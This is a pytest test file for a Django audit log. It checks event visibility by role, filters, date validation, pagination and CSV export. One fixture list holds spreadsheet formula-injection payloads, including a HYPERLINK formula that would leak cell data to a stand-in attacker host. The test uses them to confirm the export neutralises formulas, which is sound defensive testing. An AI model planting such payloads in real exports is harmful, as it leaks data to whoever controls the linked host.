"""The audit page, the events API and the CSV export: filters, who sees what, pagination, safe CSV."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from apps.accounts.models import Project
from apps.audit import services as audit
from apps.audit.models import AuditEvent
from apps.audit.services import CSV_COLUMNS

PAGE = "/audit/"
API = "/api/v1/audit/events/"
CSV = "/audit/export.csv"
DATE_ERROR = "Use a date (2026-01-31) or a date and time (2026-01-31T14:00:00Z)."


@pytest.fixture
def scene(people, project, other_project) -> dict[str, AuditEvent]:
    """One event per kind of author and place, in this order (so also in time)."""
    return {
        "viewer": audit.record("scene.viewer", actor=people["viewer"], project=project),
        "admin": audit.record("scene.admin", actor=people["admin"], obj=project),
        "outsider": audit.record("scene.outsider", actor=people["outsider"], obj=other_project),
        "staff": audit.record("scene.staff", actor=people["staff"]),
        "system": audit.record("scene.system"),
        "approver": audit.record("scene.approver", actor=people["approver"]),
    }


def page_actions(response) -> list[str]:
    assert response.status_code == 200
    return [e.action for e in response.context["page"].object_list]


def api_actions(response) -> list[str]:
    assert response.status_code == 200, response.content[:300]
    return [e["action"] for e in response.json()["results"]]


def csv_table(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def csv_actions(response) -> list[str]:
    header, *rows = csv_table(response)
    return [row[header.index("action")] for row in rows]


READERS = {"page": (PAGE, page_actions), "api": (API, api_actions), "csv": (CSV, csv_actions)}


def read(browser, where: str, **params) -> list[str]:
    path, actions = READERS[where]
    return actions(browser.get(path, params))


# --- Who sees what ----------------------------------------------------------------------------------

# Besides these, everybody sees their own sign-in (event written when the test client logs them in).
VISIBLE = {
    "viewer": {"scene.viewer"},  # own events only: viewers may not read the project's audit
    "scientist": set(),
    "approver": {"scene.viewer", "scene.admin", "scene.approver"},  # alpha's events, and own
    "admin": {"scene.viewer", "scene.admin"},
    "outsider": {"scene.outsider"},  # beta's admin: nothing of alpha
}


@pytest.mark.parametrize("where", READERS)
@pytest.mark.parametrize("persona", VISIBLE)
def test_members_see_their_own_events_and_those_of_projects_whose_audit_they_may_read(
        people, scene, client_as, persona, where):
    assert set(read(client_as(people[persona]), where)) == VISIBLE[persona] | {"auth.login"}


@pytest.mark.parametrize("where", READERS)
def test_staff_see_every_event(people, scene, client_as, where):
    seen = read(client_as(people["staff"]), where)
    assert sorted(seen) == sorted(AuditEvent.objects.values_list("action", flat=True))
    assert {e.action for e in scene.values()} <= set(seen)


def test_project_scoped_token_sees_only_that_projects_events(people, project, scene, api_as):
    api = api_as(people["approver"], project=project)  # creating the token is itself an alpha event
    assert set(api_actions(api.get(API))) == {"scene.viewer", "scene.admin", "token.create"}


def test_one_event_by_id_answers_404_to_whoever_may_not_see_it(people, scene, client_as):
    url = f"{API}{scene['outsider'].uuid}/"
    assert client_as(people["outsider"]).get(url).json()["action"] == "scene.outsider"
    assert client_as(people["staff"]).get(url).status_code == 200
    for persona in ("viewer", "approver", "admin"):
        response = client_as(people[persona]).get(url)
        assert response.status_code == 404, persona
        assert "detail" in response.json()


def test_anonymous_visitors_are_sent_to_sign_in_or_refused(client, scene):
    assert client.get(PAGE)["Location"].startswith("/accounts/login/")
    assert client.get(CSV)["Location"].startswith("/accounts/login/")
    assert client.get(API).status_code == 401


def test_api_event_carries_the_documented_fields(people, scene, client_as):
    event = client_as(people["staff"]).get(API, {"action": "scene.admin"}).json()["results"][0]
    assert event["id"] == str(scene["admin"].uuid)
    assert (event["actor"], event["project"], event["object_type"], event["object_id"], event["object"]) == (
        "admin", "alpha", "accounts.project", "alpha", "Alpha")
    assert event["sequence"] == scene["admin"].sequence
    assert (event["prev_hash"], event["hash"]) == (scene["viewer"].hash, scene["admin"].hash)


# --- Filters ----------------------------------------------------------------------------------------

FILTERS = [
    ({"project": "alpha"}, {"scene.viewer", "scene.admin"}),
    ({"project": "beta"}, {"scene.outsider"}),
    ({"actor": "ADMIN"}, {"scene.admin"}),
    ({"action": "scene.a"}, {"scene.admin", "scene.approver"}),
    ({"action": "admin"}, set()),  # a prefix, not a substring
    ({"object": "alpha"}, {"scene.admin"}),
    ({"object": "accounts.project:beta"}, {"scene.outsider"}),
    ({"object": "accounts.user:alpha"}, set()),
    ({"project": "alpha", "actor": "viewer"}, {"scene.viewer"}),
]


@pytest.mark.parametrize("where", READERS)
@pytest.mark.parametrize(("params", "expected"), FILTERS, ids=[str(p) for p, _ in FILTERS])
def test_filters_narrow_the_events(people, scene, client_as, where, params, expected):
    seen = read(client_as(people["staff"]), where, **params)
    assert set(seen) == expected
    assert len(seen) == len(expected)


@pytest.mark.parametrize("where", READERS)
def test_filtering_by_dates_includes_whole_days(people, scene, client_as, where):
    staff = client_as(people["staff"])
    today = timezone.now().date()
    scene_only = {"action": "scene."}

    assert len(read(staff, where, since=str(today), until=str(today), **scene_only)) == 6
    assert read(staff, where, since=str(today + timedelta(days=1)), **scene_only) == []
    assert read(staff, where, until=str(today - timedelta(days=1)), **scene_only) == []


@pytest.mark.parametrize("where", READERS)
def test_filtering_by_moments_in_time(people, scene, client_as, where):
    staff = client_as(people["staff"])
    since = scene["admin"].created_at.isoformat()  # "+00:00": the client must encode the "+"
    until = scene["staff"].created_at.isoformat().replace("+00:00", "Z")

    seen = read(staff, where, action="scene.", since=since, until=until)
    assert set(seen) == {"scene.admin", "scene.outsider", "scene.staff"}


def test_filters_do_not_widen_what_a_member_may_see(people, scene, client_as):
    viewer = client_as(people["viewer"])
    assert read(viewer, "api", project="beta") == []
    assert read(viewer, "page", actor="outsider") == []
    assert read(viewer, "csv", project="alpha") == ["scene.viewer"]


BAD_DATES = ["yesterday", "31/01/2026", "2026-02-30", "2026-01-31T25:00:00"]


@pytest.mark.parametrize("value", BAD_DATES)
@pytest.mark.parametrize("field", ["since", "until"])
def test_invalid_date_shows_a_form_error_on_the_page(people, scene, client_as, field, value):
    response = client_as(people["staff"]).get(PAGE, {field: value})

    assert response.status_code == 200
    assert response.context["errors"] == {field: [DATE_ERROR]}
    html = response.content.decode()
    assert f'id="f-{field}" name="{field}"' in html and "is-invalid" in html
    assert "Use a date (2026-01-31)" in html


@pytest.mark.parametrize("value", BAD_DATES)
@pytest.mark.parametrize("field", ["since", "until"])
def test_invalid_date_answers_400_naming_the_field_in_the_api(people, scene, client_as, field, value):
    response = client_as(people["staff"]).get(API, {field: value})

    assert response.status_code == 400
    assert response.json() == {"detail": f"{field}: {DATE_ERROR}", "errors": {field: [DATE_ERROR]}}


@pytest.mark.parametrize("value", BAD_DATES)
def test_invalid_date_refuses_the_csv_export_instead_of_exporting_everything(people, scene, client_as, value):
    response = client_as(people["staff"]).get(CSV, {"since": value})

    assert response.status_code == 400
    assert "since" in response.content.decode() and "Use a date" in response.content.decode()


# --- Pagination -------------------------------------------------------------------------------------


@pytest.fixture
def many_events(people) -> int:
    for n in range(120):
        audit.record("bulk.tick", details={"n": n})
    return 120


def test_page_shows_fifty_events_newest_first_and_pages_through_the_rest(people, many_events, client_as):
    staff = client_as(people["staff"])  # + its sign-in: 121 events
    first = staff.get(PAGE)
    sequences = [e.sequence for e in first.context["page"].object_list]
    assert sequences == list(range(121, 71, -1))
    assert "Page 1 of 3 (121 in all)" in first.content.decode()
    assert "page=2" in first.content.decode()

    last = staff.get(PAGE, {"page": 3})
    assert [e.sequence for e in last.context["page"].object_list] == list(range(21, 0, -1))
    assert staff.get(PAGE, {"page": "999"}).context["page"].number == 3


def test_page_links_keep_the_filters(people, many_events, client_as):
    html = client_as(people["staff"]).get(PAGE, {"action": "bulk."}).content.decode()
    assert "Page 1 of 3 (120 in all)" in html
    assert "?action=bulk.&amp;page=2" in html


def test_api_paginates_with_count_and_next(people, many_events, client_as):
    staff = client_as(people["staff"])
    body = staff.get(API).json()
    assert body["count"] == 121
    assert len(body["results"]) == 50
    assert body["results"][0]["sequence"] == 121
    assert body["previous"] is None and "page=2" in body["next"]

    body = staff.get(API, {"page": 3}).json()
    assert [e["sequence"] for e in body["results"]] == list(range(21, 0, -1))
    assert body["next"] is None


def test_csv_exports_every_matching_event_not_just_one_page(people, many_events, client_as):
    header, *rows = csv_table(client_as(people["staff"]).get(CSV, {"action": "bulk."}))
    assert [int(r[0]) for r in rows] == list(range(1, 121))


@pytest.mark.parametrize("persona", ["staff", "approver"])
@pytest.mark.parametrize("path", [PAGE, API])
def test_list_query_count_does_not_grow_with_events(people, project, client_as, persona, path):
    browser = client_as(people[persona])
    audit.record("bulk.tick", project=project)
    browser.get(path)  # warm up session and caches
    with CaptureQueriesContext(connection) as few:
        assert browser.get(path).status_code == 200
    for n in range(60):
        audit.record("bulk.tick", project=project, actor=people["admin"], details={"n": n})
    with CaptureQueriesContext(connection) as many:
        assert browser.get(path).status_code == 200
    assert len(many) == len(few), [q["sql"] for q in many.captured_queries]


# --- CSV --------------------------------------------------------------------------------------------


def test_csv_has_a_header_row_and_one_row_per_event_in_order(people, scene, client_as):
    response = client_as(people["staff"]).get(CSV, {"action": "scene."})
    assert response["Content-Disposition"].startswith('attachment; filename="audit-')
    header, *rows = csv_table(response)

    assert header == CSV_COLUMNS
    assert [row[header.index("action")] for row in rows] == [
        "scene.viewer", "scene.admin", "scene.outsider", "scene.staff", "scene.system", "scene.approver"]
    admin = dict(zip(header, rows[1], strict=True))
    assert admin == {
        "sequence": str(scene["admin"].sequence), "time": scene["admin"].created_at.isoformat(),
        "actor": "admin", "action": "scene.admin", "object_type": "accounts.project", "object_id": "alpha",
        "object": "Alpha", "project": "alpha", "client_ip": "", "details": "{}", "hash": scene["admin"].hash,
    }


DANGEROUS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", DANGEROUS, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_csv_neutralises_spreadsheet_formulas(people, client_as, value):
    evil = Project.objects.create(slug="evil", name=value)
    audit.record("scene.evil", actor_label=value, obj=evil, details={"note": value})

    header, row = csv_table(client_as(people["staff"]).get(CSV, {"action": "scene.evil"}))
    cells = dict(zip(header, row, strict=True))
    assert cells["actor"] == "'" + value
    assert cells["object"] == "'" + value
    # details is one JSON cell; it starts with "{" whatever the values inside say
    assert cells["details"].startswith("{") and json.loads(cells["details"]) == {"note": value}
    assert cells["project"] == "evil"  # ordinary values are left alone


def test_csv_leaves_harmless_values_unchanged(people, client_as):
    audit.record("scene.plain", actor_label="alice-smith", details={"delta": -1})
    header, row = csv_table(client_as(people["staff"]).get(CSV, {"action": "scene.plain"}))
    cells = dict(zip(header, row, strict=True))
    assert (cells["actor"], cells["details"]) == ("alice-smith", '{"delta": -1}')
